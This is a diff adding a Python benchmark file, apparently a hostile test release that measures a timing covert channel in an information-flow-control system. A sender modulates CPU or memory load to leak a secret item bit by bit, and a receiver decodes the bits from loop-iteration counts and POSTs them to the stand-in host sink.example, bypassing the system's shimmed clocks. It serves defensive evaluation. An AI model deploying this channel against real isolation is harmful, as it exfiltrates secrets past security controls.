@@ -1,0 +1,179 @@
+"""A hostile release for bench/timing-channel.sh (issue 19, "Timing is a
+channel we measure"; paper §V-B A1 excludes timing channels, §IX-A).
+
+send: its copy holds a secret item and is cleared for no destination. It
+modulates contention per time slot, busy on a 1 bit and idle on a 0 bit,
+the frame being PREAMBLE + the item's own bytes, MSB first, Manchester coded.
+receive: its copy, in a different call with a public horizon, is cleared
+for sink.example. It measures its own progress per quarter slot, finds the
+preamble, decodes the bits and POSTs them to its sink.
+
+Neither reads a twinned clock (copy_host shims time.monotonic, perf_counter
+and process_time: each read ticks 1 ms, paper §IV-F): the slots are a real
+interval timer (signal.setitimer(ITIMER_REAL), which is not a twin input),
+and the receiver's measure is a counter of its own loop iterations between
+two SIGALRMs. No shared clock is needed: the receiver aligns on the
+preamble, as a real attacker would.
+
+args (both): slot_ms (50, one symbol; a bit is two), mode "cpu" (threads hashing 1 MiB buffers: hashlib
+drops the GIL, so THREADS threads load THREADS cores) or "mem" (one thread
+copying a 64 MiB buffer: last-level cache and memory bandwidth, not CPU:
+on a 2-core machine it leaves the receiver its own core). send: lead_s
+(1.0, idle before the frame), threads (4). receive: nbits (data bits
+expected), listen_s (extra seconds listened after lead + frame).
+"""
+import hashlib
+import json
+import signal
+import threading
+import urllib.request
+
+# Symbols: a data bit is Manchester coded (1 -> busy, idle; 0 -> idle, busy),
+# so a bit is read by comparing its two halves (other load on the machine
+# drifts slowly and cancels), and no run of data symbols is longer than 2:
+# the preamble's runs of 3 to 5 cannot be mistaken for data. (This one has
+# the best peak over side lobes of the run-length-3..6 sequences of 24
+# symbols after an idle lead and before Manchester data.)
+PREAMBLE = [1, 1, 1, 0, 0, 0, 1, 1, 1, 0, 0, 0, 0, 0, 1, 1, 1, 0, 0, 0, 1, 1, 1, 1]
+BINS = 5  # receiver bins per slot
+
+
+def _bits(data):
+    return [(b >> (7 - i)) & 1 for b in data for i in range(8)]
+
+
+def _symbols(bits):
+    return PREAMBLE + [s for b in bits for s in ((1, 0) if b else (0, 1))]
+
+
+class _Ticks:
+    """SIGALRM every `period` seconds of real time; `n` counts them."""
+
+    def __init__(self, period):
+        self.n = 0
+        self.marks = []
+        self.counter = [0]
+        signal.signal(signal.SIGALRM, self._tick)
+        signal.setitimer(signal.ITIMER_REAL, period, period)
+
+    def _tick(self, sig, frame):
+        self.n += 1
+        self.marks.append(self.counter[0])
+
+    def stop(self):
+        signal.setitimer(signal.ITIMER_REAL, 0, 0)
+        signal.signal(signal.SIGALRM, signal.SIG_DFL)
+
+
+def _burner(state, mode):
+    buf = bytes(1 << 20) if mode == "cpu" else bytearray(64 << 20)
+    while state["run"]:
+        if not state["busy"]:
+            state["event"].wait(0.05)
+            continue
+        if mode == "cpu":
+            hashlib.sha256(buf).digest()  # > 2047 bytes: runs without the GIL
+        else:
+            bytes(buf)  # a 64 MiB memcpy: evicts the shared last-level cache
+
+
+def send(call):
+    a = call.args
+    slot = float(a.get("slot_ms", 50)) / 1000
+    mode = a.get("mode", "cpu")
+    nthreads = 1 if mode == "mem" else max(1, min(8, int(a.get("threads", 4))))
+    secret = b"".join(it.data for _, it in sorted(call.items.items()))
+    frame = _symbols(_bits(secret[:64]))
+    lead = int(float(a.get("lead_s", 1.0)) / slot)
+    state = {"run": True, "busy": False, "event": threading.Event()}
+    ts = [threading.Thread(target=_burner, args=(state, mode), daemon=True)
+          for _ in range(nthreads)]
+    for t in ts:
+        t.start()
+    ticks = _Ticks(slot)
+    try:
+        for i, bit in enumerate([0] * lead + frame):
+            state["busy"] = bool(bit)
+            if bit:
+                state["event"].set()
+            else:
+                state["event"].clear()
+            while ticks.n <= i:
+                signal.pause()
+    finally:
+        ticks.stop()
+        state["run"] = False
+        state["busy"] = False
+        state["event"].set()
+    return {"slots": len(frame), "lead": lead}
+
+
+def _measure(nbins, period, mode):
+    ticks = _Ticks(period)
+    c = ticks.counter
+    buf = bytearray(4 << 20) if mode == "mem" else None  # > L2, fits the LLC
+    try:
+        while ticks.n < nbins + 1:
+            if buf is None:
+                for _ in range(200):
+                    pass
+            else:
+                bytes(buf)
+            c[0] += 1
+    finally:
+        ticks.stop()
+    m = ticks.marks
+    return [m[k + 1] - m[k] for k in range(nbins)]
+
+
+def _slot_means(r, off, nslots):
+    # the median of each slot's bins but its first (the edge's misalignment);
+    # a median, since other load on the machine makes single bins jump
+    out = []
+    for j in range(nslots):
+        b = sorted(r[off + BINS * j + 1:off + BINS * (j + 1)])
+        out.append(b[len(b) // 2])
+    return out
+
+
+def decode(r, nbits):
+    """Align on the preamble (busy slots slow us: correlate with -p) and on
+    the data's Manchester pairs (aligned, each pair's halves differ most),
+    both scaled by the preamble's spread; then read each bit from its two
+    halves: busy first (fewer iterations) is 1."""
+    n = len(PREAMBLE) + 2 * nbits
+    sign = [1 if b else -1 for b in PREAMBLE]
+    best, off = None, 0
+    for o in range(0, len(r) - BINS * n + 1):
+        m = _slot_means(r, o, n)
+        p, d = m[:len(PREAMBLE)], m[len(PREAMBLE):]
+        mu = sum(p) / len(p)
+        spread = sum(abs(x - mu) for x in p) or 1
+        score = (-sum(s * (x - mu) for s, x in zip(sign, p))
+                 + sum(abs(d[2 * k] - d[2 * k + 1]) for k in range(nbits)) * len(p) / len(d)) / spread
+        if best is None or score > best:
+            best, off = score, o
+    m = _slot_means(r, off, n)
+    busy = [x for x, b in zip(m, PREAMBLE) if b]
+    idle = [x for x, b in zip(m, PREAMBLE) if not b]
+    d = m[len(PREAMBLE):]
+    bits = [1 if d[2 * k] < d[2 * k + 1] else 0 for k in range(nbits)]
+    return bits, off, sum(busy) / len(busy), sum(idle) / len(idle)
+
+
+def receive(call):
+    a = call.args
+    slot = float(a.get("slot_ms", 50)) / 1000
+    nbits = max(1, min(512, int(a.get("nbits", 64))))
+    span = float(a.get("lead_s", 1.0)) + (len(PREAMBLE) + 2 * nbits) * slot \
+        + float(a.get("listen_s", 2.0))
+    nbins = int(span / slot) * BINS
+    r = _measure(nbins, slot / BINS, a.get("mode", "cpu"))
+    bits, off, busy, idle = decode(r, nbits)
+    body = json.dumps({"bits": "".join(map(str, bits)), "offset_bins": off,
+                       "busy": busy, "idle": idle}).encode()
+    req = urllib.request.Request("http://sink.example/bits", data=body, method="POST",
+                                 headers={"Content-Type": "application/json"})
+    with urllib.request.urlopen(req, timeout=30) as resp:
+        resp.read()
+    return {"bits": len(bits), "bins": len(r)}
